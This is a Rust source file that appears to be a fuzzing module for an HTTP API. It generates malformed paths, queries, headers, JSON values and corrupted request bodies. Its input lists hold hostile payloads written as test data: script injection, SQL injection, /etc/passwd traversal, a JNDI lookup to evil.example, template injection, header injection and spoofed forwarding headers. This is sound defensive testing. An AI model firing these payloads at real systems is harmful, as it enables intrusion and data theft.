//! Owns what no well-meaning client sends: values for paths, queries, headers and members, and bodies that are damaged.

use serde_json::{Map, Value, json};

use crate::dice::Dice;

/// Texts that some layer below could stumble over: databases over NUL and lengths, pages over markup, mails and headers over line
/// ends, readers of numbers and times over almost-numbers.
const TEXTS: [&str; 34] = [
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nSet-Cookie: a=b",
    "\u{1b}[31mred",
    "\u{202e}moc.elpmaxe",
    "\u{feff}",
    "\u{fffd}",
    "<script>alert(1)</script>",
    "\"><img src=x>",
    "' OR 1=1 --",
    "%",
    "_%",
    "\\",
    "../../etc/passwd",
    "//evil.example",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "null",
    "-1",
    "0",
    "1e309",
    "18446744073709551616",
    "2026-13-45T25:61:61Z",
    "+99999-01-01T00:00:00Z",
    "ﬀ@ﬀ.example",
    "a@b@c.example",
    "\"a b\"@example.com",
    "a@[127.0.0.1]",
    "https://user:pass@idp.example.com:0/\0",
    "usr_00000000000000000000000000",
    "org_zzzzzzzzzzzzzzzzzzzzzzzzzz",
];

/// How long a text is that is longer than any field takes.
const LONG: usize = 70_000;

/// One text.
pub fn text(dice: &mut Dice) -> String {
    match dice.roll(12) {
        0 => "a".repeat(LONG),
        1 => "\u{1f600}".repeat(300),
        2 => format!("{}@example.com", "a".repeat(300)),
        3 => (0..dice.roll(40)).filter_map(|_| char::from_u32(u32::try_from(dice.roll(0x3000)).ok()?)).collect(),
        _ => (*dice.pick(&TEXTS)).to_owned(),
    }
}

/// A segment of a path: encoded, for what is not does not come through HTTP.
pub fn segment(dice: &mut Dice) -> String {
    let long = "a".repeat(4_000);
    let digit = |half: u8| char::from_digit(u32::from(half), 16).unwrap();
    let encoded =
        |text: &str| -> String { text.bytes().flat_map(|byte| ['%', digit(byte >> 4), digit(byte & 15)]).collect() };
    match dice.roll(8) {
        0 => long,
        1 => "%FF%FE".to_owned(),
        2 => "%".to_owned(),
        3 => "%2e%2e%2f".to_owned(),
        4 => "*".to_owned(),
        _ => encoded(dice.pick::<&str>(&TEXTS)),
    }
}

/// What stands after `?`: the parameters of this name among others, once or twice, well encoded or not at all.
pub fn query(names: &[String], dice: &mut Dice) -> String {
    let mut parts = Vec::new();
    for _ in 0..=dice.roll(3) {
        let name = if names.is_empty() || dice.once_in(4) { "cursor" } else { dice.pick(names).as_str() };
        let value = if dice.once_in(3) {
            (*dice.pick(&["-1", "0", "201", "99999999999", "x"])).to_owned()
        } else {
            segment(dice)
        };
        parts.push(format!("{name}={value}"));
    }
    if dice.once_in(8) {
        parts.push("&&=%&".to_owned());
    }
    parts.join("&")
}

/// A header that says what is not so.
pub fn header(dice: &mut Dice) -> (&'static str, String) {
    let (name, value) = *dice.pick(&[
        ("authorization", "Bearer"),
        ("authorization", "Bearer a b c"),
        ("authorization", "Basic Og=="),
        ("authorization", "Bearer %00"),
        ("cookie", "__Host-orgate-session="),
        ("cookie", "__Host-orgate-session=\"; =;;"),
        ("content-encoding", "gzip"),
        ("accept", "*;q=,/"),
        ("accept-language", "zz-\"-1;q=9"),
        ("forwarded", "for=\"[::1\";host=evil.example;proto=\"\""),
        ("x-forwarded-for", "999.1.1.1, , ::::"),
        ("x-forwarded-host", "evil.example"),
        ("range", "bytes=-1--1"),
        ("if-none-match", "\"\\\""),
        ("origin", "null"),
        ("sec-fetch-site", "cross-site"),
        ("expect", "200-maybe"),
        ("x-orgate-org", "\\"),
    ]);
    (name, value.to_owned())
}

/// A value of any kind, mostly of a wrong one.
pub fn value(dice: &mut Dice) -> Value {
    match dice.roll(16) {
        0 => Value::Null,
        1 => json!(true),
        2 => json!(-1),
        3 => json!(1.5e308),
        4 => json!(u64::MAX),
        5 => json!([]),
        6 => json!({}),
        7 => json!([text(dice), null, 7]),
        8 => json!(vec![text(dice); 3]),
        9 => json!({ "id": text(dice), "type": {} }),
        10 => json!(vec!["a@example.com"; 2_000]),
        _ => json!(text(dice)),
    }
}

/// The body with some members changed, left out or added. `names` are those that the schema has.
pub fn body(sample: Option<Value>, names: &[String], dice: &mut Dice) -> Value {
    let mut members = match sample {
        Some(Value::Object(members)) => members,
        _ => Map::new(),
    };
    for _ in 0..=dice.roll(2) {
        let known: Vec<String> = members.keys().chain(names).cloned().collect();
        match dice.roll(8) {
            0 if !members.is_empty() => {
                members.remove(dice.pick(&known));
            }
            1 => {
                members.insert(text(dice), value(dice));
            }
            _ if known.is_empty() => return value(dice),
            _ => {
                members.insert(dice.pick(&known).clone(), value(dice));
            }
        }
    }
    Value::Object(members)
}

/// The bytes of it, damaged on the way.
pub fn damaged(body: &Value, dice: &mut Dice) -> Vec<u8> {
    let whole = body.to_string();
    match dice.roll(12) {
        0 => Vec::new(),
        1 => whole.into_bytes().into_iter().rev().skip(1).rev().collect(),
        2 => "[".repeat(20_000).into_bytes(),
        3 => b"{\"a\":".repeat(5_000),
        4 => [whole.as_bytes(), b"}"].concat(),
        5 => [b"\xef\xbb\xbf", whole.as_bytes()].concat(),
        6 => whole.replace('"', "\u{feff}\"").into_bytes(),
        7 => whole.replacen(":\"", ":\"\\ud800", 1).into_bytes(),
        8 => whole.bytes().map(|byte| if byte == b'a' { 0xff } else { byte }).collect(),
        9 => whole.replacen(':', ":1e999,\"again\":", 1).into_bytes(),
        10 => whole.replacen('{', "{\"email\":\"a@example.com\",\"email\":\"b@example.com\",", 1).into_bytes(),
        _ => vec![b' '; 3_000_000],
    }
}
